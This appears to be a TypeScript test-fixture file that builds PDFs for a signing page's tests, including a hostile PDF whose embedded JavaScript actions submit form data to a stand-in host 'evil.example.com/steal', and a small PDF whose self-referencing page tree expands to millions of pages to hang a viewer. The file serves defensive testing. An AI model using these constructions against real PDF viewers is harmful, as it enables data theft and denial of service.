/**
 * PDFs for the signing page's tests, made with pdf-lib at run time (no binary in the repository): a plain
 * document of several pages with known text, a hostile one (JavaScript run on opening, on a field and in the
 * document's name tree, a form), and a truncated one.
 */
import { PDFDocument, PDFName, PDFString, StandardFonts, rgb } from '@cantoo/pdf-lib';

/** Text of page `n` of {@link textPdf}: the tests look for it in the page's text layer. */
export const pageText = (n: number) => `Lease agreement page ${n}: the tenant pays 950 EUR each month.`;

/** A document of `pages` pages, each with a heading, {@link pageText} and a filled box (so the canvas is not blank). */
export async function textPdf(pages = 2): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setTitle('Lease agreement');
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let n = 1; n <= pages; n++) {
    const page = doc.addPage([595, 842]);
    page.drawRectangle({ x: 50, y: 720, width: 495, height: 60, color: rgb(0.1, 0.3, 0.7) });
    page.drawText(`Lease ${n}`, { x: 60, y: 740, size: 28, font, color: rgb(1, 1, 1) });
    page.drawText(pageText(n), { x: 50, y: 680, size: 14, font });
  }
  return doc.save();
}

/** The script each hostile hook would run: it would change the page's title, show a dialog and navigate. */
const SCRIPT = "app.alert('pdf script ran'); this.submitForm('https://evil.example.com/steal');";

/**
 * A PDF that tries to run script: an OpenAction, a document-level script (Names/JavaScript), a text field
 * with a keystroke action and a link annotation whose action is JavaScript. A viewer must run none of them.
 */
export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText('Form with scripts: nothing here may run.', { x: 50, y: 780, size: 16, font });
  const form = doc.getForm();
  const field = form.createTextField('tenant.name');
  field.setText('Jane Doe');
  field.addToPage(page, { x: 50, y: 700, width: 300, height: 30 });
  const box = form.createCheckBox('tenant.agrees');
  box.addToPage(page, { x: 50, y: 650, width: 20, height: 20 });
  const ctx = doc.context;
  const js = () => ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(SCRIPT) });
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js()));
  const names = ctx.obj({ Names: [PDFString.of('run'), ctx.register(js())] });
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: ctx.register(names) }));
  field.acroField.dict.set(PDFName.of('AA'), ctx.obj({ K: ctx.register(js()), F: ctx.register(js()) }));
  const link = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [50, 560, 300, 600],
    Border: [0, 0, 0],
    A: ctx.register(js()),
  });
  page.node.set(PDFName.of('Annots'), ctx.obj([...(page.node.Annots()?.asArray() ?? []), ctx.register(link)]));
  return doc.save({ useObjectStreams: false });
}

/** {@link textPdf} cut after its first quarter: no cross-reference, no page tree. */
export async function truncatedPdf(): Promise<Uint8Array> {
  const whole = await textPdf(2);
  return whole.slice(0, Math.floor(whole.length / 4));
}

/**
 * A PDF of about 2 KB whose page tree is a DAG `depth` levels deep: each node's `/Kids` names the same child
 * twice, so the one page below is reached 2^depth times and `/Count` says 2^depth pages (issue 32, row 2:
 * the signing page drew nothing for 30 s, its "Sign" button disabled for good).
 */
export function dagPageTreePdf(depth = 23): Uint8Array {
  const objects: string[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
  for (let level = 0; level < depth; level += 1) {
    const self = 2 + level;
    const parent = level === 0 ? '' : ` /Parent ${self - 1} 0 R`;
    objects.push(`<< /Type /Pages${parent} /Kids [${self + 1} 0 R ${self + 1} 0 R] /Count ${2 ** (depth - level)} >>`);
  }
  const page = 2 + depth;
  const stream = 'BT /F1 24 Tf 72 720 Td (One page, reached many times) Tj ET';
  objects.push(
    `<< /Type /Page /Parent ${page - 1} 0 R /MediaBox [0 0 612 792] /Contents ${page + 1} 0 R /Resources << /Font << /F1 ${page + 2} 0 R >> >> >>`,
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  );
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, i) => {
    const at = body.length;
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const xref = body.length;
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return new TextEncoder().encode(body);
}
